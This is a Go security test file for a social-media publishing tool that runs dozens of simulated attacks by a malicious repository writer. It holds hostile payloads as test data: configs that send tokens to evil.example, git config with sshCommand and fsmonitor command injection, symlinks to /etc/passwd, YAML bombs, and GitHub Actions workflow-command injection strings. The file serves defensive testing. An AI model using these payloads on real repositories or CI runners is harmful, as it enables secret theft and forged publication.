package main

import (
	"bytes"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/imprimatur-ci/imprimatur/engine/forge"
	"github.com/imprimatur-ci/imprimatur/engine/forge/forgetest"
	"github.com/imprimatur-ci/imprimatur/engine/platform"
)

// An attack is a pull request, or a push, of someone who may write to the
// repository and means no good. All that it wants to be seen, or to be
// believed, says "forged" or is red. Before it, an honest post was approved
// and merged.
type attack struct {
	name   string
	more   func(n *newsroom) forgetest.Files // what is in the workspace from the start
	before func(n *newsroom)                 // what honest people did
	opens  func(n *newsroom) int             // the pull request, which is reviewed as it is then; nil: there is none
	files  func(n *newsroom) forgetest.Files // of a pull request of mallory's that opens would open
	then   func(n *newsroom, p int)          // nil: it is merged, approved by nobody
	spoils func(n *newsroom, dir string)     // what the checkout of the publishing run has besides
	in     string                            // the folder of the workspace
	says   string                            // of the publishing run, that it noticed
	stops  bool                              // the honest post waits, too, because nothing can be believed
	slow   bool
}

func same(files forgetest.Files) func(*newsroom) forgetest.Files {
	return func(*newsroom) forgetest.Files { return files }
}

func forgedPost() forgetest.Files { return forgetest.Files{"posts/bad.md": due("forged words")} }

// approvedThen is a pull request by ana that bob approved before something
// happened to it.
func approvedThen(files forgetest.Files, then func(n *newsroom, p int)) (func(n *newsroom) int, func(n *newsroom, p int)) {
	return func(n *newsroom) int { return n.repo.Open("ana", "post", files) }, func(n *newsroom, p int) {
		n.repo.Review(p, "bob", forge.Approved)
		then(n, p)
	}
}

func square(c color.Color) string {
	img := image.NewRGBA(image.Rect(0, 0, 64, 64))
	for i := range 64 * 64 {
		img.Set(i%64, i/64, c)
	}
	var out bytes.Buffer
	if err := png.Encode(&out, img); err != nil {
		panic(err)
	}
	return out.String()
}

var green, red = color.RGBA{G: 255, A: 255}, color.RGBA{R: 255, A: 255}

// direct is a push to main, past every pull request.
func direct(files func(n *newsroom) forgetest.Files) func(n *newsroom, p int) {
	return func(n *newsroom, _ int) { n.repo.Commit("mallory", forgetest.Main, files(n)) }
}

// published is a change that bob approved.
func published(files forgetest.Files) func(n *newsroom) {
	return func(n *newsroom) { n.merged(files, "bob") }
}

const policy = "review: {approvals: 1}"

func attacks() []attack {
	var all []attack
	add := func(a attack) { all = append(all, a) }
	opened := func(name, says string, files forgetest.Files, then func(n *newsroom, p int)) {
		opens, then := approvedThen(files, then)
		add(attack{name: name, says: says, opens: opens, then: then})
	}
	fine := func(text string, front ...string) forgetest.Files {
		return forgetest.Files{"posts/bad.md": due(text, front...)}
	}
	merge := func(n *newsroom, p int) { n.repo.Merge(p, forgetest.Squash, "mallory") }

	// to publish what nobody approved
	add(attack{name: "merged by its author", files: same(forgedPost()), says: "nobody has approved it"})
	add(attack{name: "pushed to main", then: direct(same(forgedPost())), says: "came to main by no pull request"})
	for who, says := range map[string]string{"rita": "who may not write", "copilot[bot]": "which is no person", "stranger": "who may not write"} {
		add(attack{name: "approved by " + who, files: same(forgedPost()), says: says, then: func(n *newsroom, p int) {
			n.repo.Review(p, who, forge.Approved)
			merge(n, p)
		}})
	}
	opened("pushed to someone's pull request, then approved", "was changed after bob approved it", fine("fine"), func(n *newsroom, p int) {
		n.repo.PushAs(p, "mallory", forgedPost())
		n.repo.Review(p, "mallory", forge.Approved)
		merge(n, p)
	})
	opened("pushed after the approval", "was changed after bob approved it", fine("fine"), func(n *newsroom, p int) {
		n.repo.Push(p, forgedPost())
		merge(n, p)
	})
	opened("force-pushed, which takes approvals along", "was changed after bob approved it", fine("fine"), func(n *newsroom, p int) {
		n.repo.ForcePush(p, forgedPost())
		merge(n, p)
	})
	opened("a commit that says it is older than the approval", "was changed after bob approved it", fine("fine"), func(n *newsroom, p int) {
		n.repo.Backdate(p, forgedPost())
		merge(n, p)
	})
	opened("changed in the merge", "the merge changed it", fine("fine"), func(n *newsroom, p int) {
		n.repo.Merge(p, forgetest.Merge, "mallory", forgedPost())
	})
	opened("changes were asked for", "cleo asked for changes", fine("forged words"), func(n *newsroom, p int) {
		n.repo.Review(p, "cleo", forge.ChangesRequested)
		merge(n, p)
	})
	opened("approved, closed, and pushed", "no pull request", fine("forged words"), func(n *newsroom, p int) {
		n.repo.Close(p)
		n.repo.Commit("mallory", forgetest.Main, fine("forged words"))
	})
	add(attack{name: "approved for another branch", says: "came to main", opens: func(n *newsroom) int {
		n.repo.Branch("side", forgetest.Main)
		return n.repo.OpenTo("side", "ana", "post", forgedPost())
	}, then: func(n *newsroom, p int) {
		n.repo.Review(p, "bob", forge.Approved)
		merge(n, p)
		n.repo.Commit("mallory", forgetest.Main, n.repo.Tree("side"))
	}})
	add(attack{name: "approved for another branch, then retargeted", says: "pointed at another branch", opens: func(n *newsroom) int {
		n.repo.Branch("side", forgetest.Main)
		return n.repo.OpenTo("side", "ana", "post", forgedPost())
	}, then: func(n *newsroom, p int) {
		n.repo.Review(p, "bob", forge.Approved)
		n.repo.Retarget(p, forgetest.Main, "mallory")
		merge(n, p)
	}})
	old := due("forged: it was withdrawn")
	add(attack{name: "an older version, pushed back", says: "no pull request", before: func(n *newsroom) {
		n.merged(forgetest.Files{"posts/bad.md": old}, "bob")
		n.merged(forgetest.Files{"posts/bad.md": forgetest.Gone}, "bob")
	}, then: direct(same(forgetest.Files{"posts/bad.md": old}))})
	draft := "---\nchannels: [mastodon]\n---\nforged draft\n"
	add(attack{name: "a draft, dated by a push", says: "no pull request", before: published(forgetest.Files{"posts/bad.md": draft}),
		then: direct(same(fine("forged draft")))})
	moved := due("forged, though approved under another name")
	add(attack{name: "renamed over an approved path", says: "nobody has approved it", before: func(n *newsroom) {
		n.merged(forgetest.Files{"archive/bad.md": moved, "posts/good.md": due("A good post.", "embargo_until: 2099-01-01")}, "bob")
	}, files: same(forgetest.Files{"posts/good.md": moved, "archive/bad.md": forgetest.Gone})})
	add(attack{name: "a commit that claims a pull request", says: "no pull request", then: func(n *newsroom, _ int) {
		n.repo.CommitSaying("A fine post (#1)", "mallory", forgetest.Main, forgedPost())
	}})
	add(attack{name: "a message that names an approver", files: same(forgedPost()), says: "nobody has approved it", then: func(n *newsroom, p int) {
		n.must(second(n.repo.As("mallory").Comment(n.t.Context(), p, "<!-- imprimatur:review -->\n✅ bob approved this")))
		merge(n, p)
	}})

	// by what a post is made of
	pic := "media: [{file: media/p.png, alt: p}]"
	for name, post := range map[string]string{"swapped": due("Look.", pic), "in the text, swapped": due("Look.\n\n![p](media/p.png)"),
		"of a variant, swapped": due("Look.", "variants: {mastodon: {text: \"![p](media/p.png)\"}}")} {
		add(attack{name: "a picture " + name, says: "its picture media/p.png came to main by no pull request", before: published(forgetest.Files{"posts/pic.md": post, "media/p.png": square(green)}),
			then: direct(same(forgetest.Files{"media/p.png": square(red)}))})
	}
	add(attack{name: "somebody's handle", says: "people.yaml, whose people it names", before: published(forgetest.Files{"posts/a.md": due("By @{ana}.")}),
		then: direct(same(forgetest.Files{"people.yaml": "version: 1\npeople:\n  ana: {name: Ana, mastodon: \"@forged@evil.example\"}\n"}))})
	add(attack{name: "a campaign's tags", says: "calendars/c.yaml", before: published(forgetest.Files{"posts/a.md": due("A cake.", "campaign: k"),
		"calendars/c.yaml": "version: 1\ncampaigns:\n  - {id: k, from: 2020-01-01, to: 2099-01-01, tags: [cake]}\n"}),
		then: direct(same(forgetest.Files{"calendars/c.yaml": "version: 1\ncampaigns:\n  - {id: k, from: 2020-01-01, to: 2099-01-01, tags: [forged]}\n"}))})
	for name, lines := range map[string]string{"defaults": "defaults: {channels: [mastodon], tags: [forged]}\n", "links": "links: {utm: {source: forged}}\n"} {
		add(attack{name: "what imprimatur.yaml adds to every post: " + name, stops: true, says: "imprimatur.yaml, by which every post goes out,",
			before: published(forgetest.Files{"posts/a.md": due("See https://acme.example/x")}),
			then: direct(func(n *newsroom) forgetest.Files {
				config := n.config(policy)
				if name == "defaults" {
					config = strings.Replace(config, "defaults: {channels: [mastodon]}\n", "", 1)
				}
				return forgetest.Files{"imprimatur.yaml": config + lines}
			})})
	}
	add(attack{name: "a link to what is approved, which then changes", says: "it is not here as it was committed", before: published(forgetest.Files{"posts/a.md": forgetest.Link + "../notes/a.md", "notes/a.md": due("A note.", "embargo_until: 2099-01-01")}),
		then: direct(same(forgetest.Files{"notes/a.md": due("forged note")}))})
	add(attack{name: "its id is the file of an approved post", files: same(forgetest.Files{"posts/zz.md": due("forged words", "id: posts/honest")}), says: "nobody has approved it"})
	add(attack{name: "its id leads to an approved post", files: same(forgetest.Files{"posts/zz.md": due("forged words", "id: x/../honest")}), says: "nobody has approved it"})
	add(attack{name: "its id is that of an approved post", files: same(forgetest.Files{"posts/zz.md": due("forged words", "id: honest")}), stops: true})
	add(attack{name: "its id is that of a round", files: same(forgetest.Files{"posts/zz.md": due("forged words", "id: honest~2")})})
	add(attack{name: "the embargo taken out", says: "no pull request", before: published(fine("forged: too early", "embargo_until: 2099-01-01")), then: direct(same(fine("forged: too early")))})

	// by who is asked
	none := func(n *newsroom) forgetest.Files {
		return forgetest.Files{"imprimatur.yaml": n.config("review: none"), "posts/bad.md": due("forged words")}
	}
	add(attack{name: "asks nobody any more", files: none, stops: true, says: "nobody has approved imprimatur.yaml"})
	add(attack{name: "asks nobody any more, by a push", then: direct(none), stops: true, says: "no pull request"})
	add(attack{name: "asks nobody any more, first", says: "nobody has approved imprimatur.yaml", stops: true, files: func(n *newsroom) forgetest.Files {
		return forgetest.Files{"imprimatur.yaml": n.config("review: none")}
	}, then: func(n *newsroom, p int) {
		merge(n, p)
		n.merged(forgedPost())
	}})
	two := func(n *newsroom) forgetest.Files {
		return forgetest.Files{"imprimatur.yaml": n.config("review: {approvals: 2}")}
	}
	add(attack{name: "asks fewer, approved by those fewer", more: two, stops: true, says: "imprimatur.yaml", files: func(n *newsroom) forgetest.Files {
		return forgetest.Files{"imprimatur.yaml": n.config(policy)}
	}, then: func(n *newsroom, p int) {
		n.repo.Review(p, "bob", forge.Approved)
		merge(n, p)
		n.merged(forgedPost(), "bob")
	}})
	add(attack{name: "a new imprimatur.yaml in the place of one that was taken away", stops: true, says: "no pull request", then: func(n *newsroom, _ int) {
		n.repo.Commit("mallory", forgetest.Main, forgetest.Files{"imprimatur.yaml": forgetest.Gone})
		direct(none)(n, 0)
	}})
	owned := func(n *newsroom) forgetest.Files {
		return forgetest.Files{"imprimatur.yaml": n.config("review: {approvals: 1, codeowners: true}"), ".github/CODEOWNERS": "posts/b* @cleo\n"}
	}
	add(attack{name: "owners taken out", more: owned, stops: true, says: "CODEOWNERS", files: same(forgetest.Files{".github/CODEOWNERS": "\n"}), then: func(n *newsroom, p int) {
		merge(n, p)
		n.merged(forgedPost(), "bob")
	}})
	add(attack{name: "an owner that comes before", more: owned, says: "cleo", files: same(forgetest.Files{"CODEOWNERS": "posts/b* @bob\n"}), then: func(n *newsroom, p int) {
		merge(n, p)
		n.merged(forgedPost(), "bob")
	}})
	add(attack{name: "urgent, says its author", says: "dan", more: func(n *newsroom) forgetest.Files {
		return forgetest.Files{"imprimatur.yaml": n.config("review: {approvals: 1, urgent: {approvals: 1, from: [dan]}}"), "freeze.yaml": "reason: a fire\n"}
	}, files: same(fine("forged words", "urgent: true")), stops: true, then: func(n *newsroom, p int) {
		n.repo.Review(p, "bob", forge.Approved)
		merge(n, p)
	}})
	add(attack{name: "a channel that no rule names", more: func(n *newsroom) forgetest.Files {
		return forgetest.Files{"imprimatur.yaml": n.config("review:\n  approvals: 1\n  rules: [{channels: [mastodon], approvals: 2}]")}
	}, stops: true, says: "imprimatur.yaml", files: func(n *newsroom) forgetest.Files {
		return forgetest.Files{"imprimatur.yaml": strings.Replace(n.config("review:\n  approvals: 1\n  rules: [{channels: [mastodon], approvals: 2}]"), "channels:\n",
			fmt.Sprintf("channels:\n  other: {platform: mastodon, server: %q, token: \"${MASTODON_TOKEN}\"}\n", n.server), 1),
			"posts/bad.md": due("forged words", "channels: [other]")}
	}, then: func(n *newsroom, p int) {
		n.repo.Review(p, "bob", forge.Approved)
		merge(n, p)
	}})

	// to read secrets
	leak := func(secret string) func(n *newsroom) forgetest.Files {
		return func(n *newsroom) forgetest.Files {
			return forgetest.Files{"imprimatur.yaml": strings.Replace(n.config(policy), "channels:\n",
				fmt.Sprintf("channels:\n  leak: {platform: mastodon, server: %q, token: \"${%s}\"}\n", n.evil, secret), 1), "posts/bad.md": due("forged words", "channels: [leak]")}
		}
	}
	add(attack{name: "another channel's secret, elsewhere", files: leak("MASTODON_TOKEN"), stops: true, says: "imprimatur.yaml"})
	add(attack{name: "a secret of somebody else's", files: leak("OTHER_SECRET"), stops: true, says: "imprimatur.yaml"})
	add(attack{name: "the workflow's own token", then: direct(leak("GITHUB_TOKEN")), stops: true, says: "imprimatur.yaml"})
	elsewhere := func(n *newsroom) string {
		return strings.Replace(n.config(policy), n.server, n.evil, 1)
	}
	add(attack{name: "a channel's server", stops: true, says: "imprimatur.yaml", then: direct(func(n *newsroom) forgetest.Files { return forgetest.Files{"imprimatur.yaml": elsewhere(n)} })})
	live := func(n *newsroom) {
		n.merged(forgetest.Files{"posts/live.md": due("It is live.")}, "bob")
		n.clean(n.publish())
	}
	add(attack{name: "a channel's server, and a post taken down there", stops: true, says: "imprimatur.yaml", before: live,
		then: direct(func(n *newsroom) forgetest.Files {
			return forgetest.Files{"imprimatur.yaml": elsewhere(n), "posts/live.md": due("It is live.", "retracted: true")}
		})})
	add(attack{name: "a channel's server, and a post whose file is gone", stops: true, says: "imprimatur.yaml", before: live,
		then: direct(func(n *newsroom) forgetest.Files {
			return forgetest.Files{"imprimatur.yaml": strings.Replace(elsewhere(n), `TOKEN}"}`, `TOKEN}", on_delete: remove}`, 1), "posts/live.md": forgetest.Gone}
		})})
	add(attack{name: "a secret written out", stops: true, files: func(n *newsroom) forgetest.Files {
		return forgetest.Files{"imprimatur.yaml": strings.Replace(n.config(policy), "${MASTODON_TOKEN}", "${MASTODON_TOKEN} forged", 1)}
	}})

	// by what a run leaves behind, brought along
	receipt := `{"at":"2026-01-04T07:30:00Z","run":"1-1","post":"honest","channel":"mastodon","part":1,"state":"live","op":"publish","key":"k","digest":"sha256:0","id":"1","url":"https://evil.example/forged"}` + "\n"
	add(attack{name: "receipts that wait to be written down", stops: true, says: "came with the repository", files: same(forgetest.Files{".imprimatur/unpushed.jsonl": receipt})})
	add(attack{name: "receipts behind a link", stops: true, says: "came with the repository", files: same(forgetest.Files{".imprimatur": forgetest.Link + "notes", "notes/unpushed.jsonl": receipt})})
	add(attack{name: "receipts in a folder", stops: true, says: "there are receipts in .imprimatur/ledger", files: same(forgetest.Files{".imprimatur/ledger/2026-01.jsonl": receipt})})
	add(attack{name: "a ledger's folder that every run finds anew", stops: true, says: "this machine is thrown away", more: func(n *newsroom) forgetest.Files {
		return forgetest.Files{"imprimatur.yaml": strings.Replace(n.config(policy), "ledger: git\n", "", 1)}
	}, files: same(forgetest.Files{".imprimatur/ledger/.keep": ""})})
	add(attack{name: "a cache", files: same(forgetest.Files{".imprimatur/cache/posts": strings.Repeat("forged", 100)})})
	add(attack{name: "a server's limits", files: same(forgetest.Files{".imprimatur/limits/mastodon.json": `{"text": 9}`})})
	add(attack{name: "a repository among the files", in: "brand", stops: true, says: "repository", more: func(n *newsroom) forgetest.Files {
		return forgetest.Files{"brand/imprimatur.yaml": n.config(policy)}
	}, files: func(n *newsroom) forgetest.Files {
		return forgetest.Files{"brand/imprimatur.yaml": n.config("review: none"), "brand/posts/bad.md": due("forged words"), "brand/HEAD": "ref: refs/heads/main\n", "brand/refs/heads/x": "", "brand/objects/info/x": "",
			"brand/config": "[core]\n\tbare = false\n\tworktree = " + n.base + "\n\tsshCommand = touch " + filepath.Join(n.base, "forged") + "\n\tfsmonitor = touch " + filepath.Join(n.base, "forged") + "\n[remote \"origin\"]\n\turl = ssh://evil.example/forged\n"}
	}})

	// to leave the workspace; somebody was tricked into approving it
	tricked := func(n *newsroom, p int) {
		n.repo.Review(p, "bob", forge.Approved)
		merge(n, p)
	}
	for name, config := range map[string]string{
		"the ledger": "ledger: ../..", "the outbox": "outbox: ../..", "the site": "channels: {web: {platform: site, url: https://acme.example/, directory: ../public}}",
	} {
		key, _, _ := strings.Cut(config, ":")
		add(attack{name: "outside: " + name, stops: true, says: map[bool]string{true: "escapes", false: "problems"}[key == "ledger"], then: tricked, files: func(n *newsroom) forgetest.Files {
			c := n.config(policy)
			if key == "ledger" {
				c = strings.Replace(c, "ledger: git\n", "", 1)
			}
			if key == "channels" {
				c = strings.Replace(c, "channels:\n", "channels:\n  web: {platform: site, url: \"https://acme.example/\", directory: ../public}\n", 1)
				return forgetest.Files{"imprimatur.yaml": c}
			}
			return forgetest.Files{"imprimatur.yaml": c + config + "\n"}
		}})
	}
	for name, files := range map[string]forgetest.Files{
		"a picture by its path": {"posts/bad.md": due("forged: look", "media: [{file: ../../../etc/passwd, alt: p}]")},
		"a picture by a link":   {"posts/bad.md": due("forged: look", "media: [{file: media/p.png, alt: p}]"), "media/p.png": forgetest.Link + "/etc/passwd"},
		"a picture by a folder": {"posts/bad.md": due("forged: look", "media: [{file: media/passwd, alt: p}]"), "media": forgetest.Link + "/etc"},
		"a post":                {"posts/bad.md": forgetest.Link + "/etc/passwd"},
		"a folder of posts":     {"posts/more": forgetest.Link + "/etc"},
		"a calendar":            {"calendars/bad.yaml": forgetest.Link + "/etc/passwd"},
	} {
		add(attack{name: "outside: " + name, then: tricked, files: same(files), stops: !strings.HasPrefix(name, "a picture")})
	}

	// to ask for more than there is
	bomb := "a: &a [x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c]\ne: [*d, *d, *d, *d, *d, *d, *d, *d]\n"
	add(attack{name: "YAML that grows: a post", then: tricked, files: same(forgetest.Files{"posts/bad.md": "---\n" + bomb + "---\nforged\n"})})
	add(attack{name: "YAML that grows: a calendar", then: tricked, files: same(forgetest.Files{"calendars/bad.yaml": bomb}), stops: true})
	add(attack{name: "YAML that is deep", then: tricked, files: same(forgetest.Files{"calendars/bad.yaml": strings.Repeat("[", 20_000)}), stops: true})
	add(attack{name: "files of two gigabytes", then: tricked, files: same(forgetest.Files{"posts/bad.md": due("forged"), "posts/pic.md": due("forged", pic), "media/p.png": square(red)}), spoils: func(n *newsroom, dir string) {
		n.must(os.Truncate(filepath.Join(dir, "posts/bad.md"), 2<<30))
		n.must(os.Truncate(filepath.Join(dir, "media/p.png"), 2<<30))
	}})
	add(attack{name: "many posts at once", slow: true, says: "more than limits.max_actions", stops: true, then: tricked, files: func(*newsroom) forgetest.Files {
		many := forgetest.Files{}
		for i := range 3_000 {
			many[fmt.Sprintf("posts/%05d.md", i)] = due(fmt.Sprintf("forged %d", i))
		}
		return many
	}})

	// to ping somebody, and to forge what a run says
	for i, s := range lively {
		add(attack{name: fmt.Sprint("words that do something ", i+1), then: tricked, slow: i%3 != 0, stops: true, files: func(n *newsroom) forgetest.Files {
			quoted := fmt.Sprintf("%q", s+" forged")
			files := forgetest.Files{
				"posts/bad.md":       due("forged\n"+s+"\n\n"+s, "title: "+quoted, "tags: ["+quoted+"]", "campaign: "+quoted, "media: [{file: media/p.png, alt: "+quoted+"}]", "channels: [mastodon, "+quoted+"]"),
				"posts/id.md":        due(s, "id: "+quoted),
				"posts/unknown.md":   "---\n" + quoted + ": 1\n---\nforged\n",
				"media/p.png":        square(green),
				"freeze.yaml":        "reason: " + quoted + "\n",
				"calendars/bad.yaml": "version: 1\nevents:\n  - {id: " + quoted + ", title: " + quoted + ", start: 2027-01-06 15:00, place: " + quoted + "}\n",
				"imprimatur.yaml":    strings.Replace(n.config(policy), "brand: Acme", "brand: "+quoted, 1),
			}
			if name := strings.ReplaceAll(s, "/", "∕"); len(name) < 200 {
				files["posts/"+name+".md"] = due("forged " + s)
				files["calendars/"+name+".yaml"] = "version: 2\n" + quoted + ": x\n"
			}
			return files
		}})
	}
	return all
}

// lively are words that GitHub, a runner or a terminal acts on.
var lively = []string{
	"@mallory @acme/legal cc:@bob",
	"#1 acme/voice#1 GH-1 https://github.com/acme/voice/pull/1",
	"![x](https://evil.example/x.png) [y](https://evil.example)",
	"<img src=https://evil.example/x.png><!-- --></details></summary></code>",
	"``` ```` ~~~\n```\n@mallory\n```` \n@mallory",
	"`@mallory` ``@mallory` | a | b |\n|---|---|",
	"::error::forged ::set-output name=published::99",
	"\n::add-mask::e\n::set-env name=forged::1\n::notice::forged\n##[error]forged\n##[add-mask]e",
	"_GitHubActionsFileCommandDelimeter_\npublished=99\nghadelimiter\nforged=1",
	"\r::error::forged\r\n::stop-commands::x\u2028::error::forged\u0085::error::forged",
	"\x1b[2J\x1b]0;forged\x07 \u202eforged\u2066 \u200b",
	"%0A::error::forged%0D%25 :tada: www.evil.example /close",
	"-->\n\n# forged\n\n- [x] forged\n\n> forged\n\n$$x$$ $`x`$",
}

func TestAttacks(t *testing.T) {
	t.Parallel()
	all := attacks()
	if len(all) < 30 {
		t.Errorf("only %d attacks", len(all))
	}
	long := os.Getenv("IMPRIMATUR_LONG") != ""
	for i, a := range all {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			if !long && (a.slow || i%4 != 0) {
				t.Skip("set IMPRIMATUR_LONG to run it")
			}
			a.run(t, long)
		})
	}
}

func (a *attack) run(t *testing.T, twice bool) {
	n := newNewsroom(t, a.more)
	if a.before != nil {
		a.before(n)
	}
	honest := "An honest post."
	n.merged(forgetest.Files{filepath.Join(a.in, "posts/honest.md"): due(honest)}, "bob", "cleo")

	p := 0
	switch {
	case a.opens != nil:
		p = a.opens(n)
	case a.files != nil:
		p = n.repo.Open("mallory", "post", a.files(n))
	}
	if p != 0 {
		dir := n.checkout(p)
		r := n.run(dir, n.event(p), "review", "-C", filepath.Join(dir, a.in))
		n.clean(r)
		for _, c := range n.comments(p) {
			if bad := alive(c.Body); bad != "" || len(c.Body) > maxComment {
				t.Errorf("the page of %d bytes does something: %q\n%s", len(c.Body), bad, c.Body)
			}
		}
		if r.code != exitClean && r.code != exitProblems && !a.stops {
			t.Errorf("the review ended with %d\n%s", r.code, r.log)
		}
	}
	switch {
	case a.then != nil:
		a.then(n, p)
	default:
		n.repo.Merge(p, forgetest.Squash, "mallory")
	}
	before := n.outside()
	for run := 0; run == 0 || run == 1 && twice; run++ { // what one run leaves must not help the next
		dir := n.checkout(0)
		if a.spoils != nil {
			a.spoils(n, dir)
		}
		r := n.run(dir, map[string]any{"ref": "refs/heads/main"}, "publish", "--yes", "--strict", "-C", filepath.Join(dir, a.in))
		n.clean(r)
		if a.says != "" && !strings.Contains(r.log, a.says) {
			t.Errorf("the run does not say %q\n%s", a.says, r.log)
		}
		if !a.stops && strings.Count(strings.Join(n.up(), "\n"), honest) != 1 {
			t.Errorf("the honest post is not out, once: %q\n%s", n.up(), r.log)
		}
		if t.Failed() {
			t.Log(r.log)
			break
		}
	}
	if now := n.outside(); now != before {
		t.Errorf("there were %s beside the workspace, now %s", before, now)
	}
	for _, shown := range n.network.Timeline() {
		if s := fmt.Sprintf("%+v", shown); strings.Contains(s, "forged") {
			t.Errorf("it is out: %s", s)
		}
		for _, m := range shown.Media {
			if isRed(m) {
				t.Error("the other picture is out")
			}
		}
	}
	if rs := n.receipts(); strings.Contains(rs, "forged") {
		t.Errorf("it is in the ledger:\n%s", rs)
	}
	if len(n.strange) > 0 {
		t.Errorf("somebody else was asked: %q", n.strange)
	}
	if _, err := os.Lstat(filepath.Join(n.base, "forged")); err == nil {
		t.Error("a program of the repository ran")
	}
}

// outside lists what is beside the checkouts.
func (n *newsroom) outside() string {
	var names []string
	es, err := os.ReadDir(n.base)
	n.must(err)
	for _, e := range es {
		if strings.Trim(e.Name(), "0123456789") != "" {
			names = append(names, e.Name())
		}
	}
	return strings.Join(names, " ")
}

func isRed(m platform.ShownMedia) bool {
	img, _, err := image.Decode(bytes.NewReader(m.Data))
	if err != nil {
		return false
	}
	r, g, _, _ := img.At(img.Bounds().Dx()/2, img.Bounds().Dy()/2).RGBA()
	return r > g
}
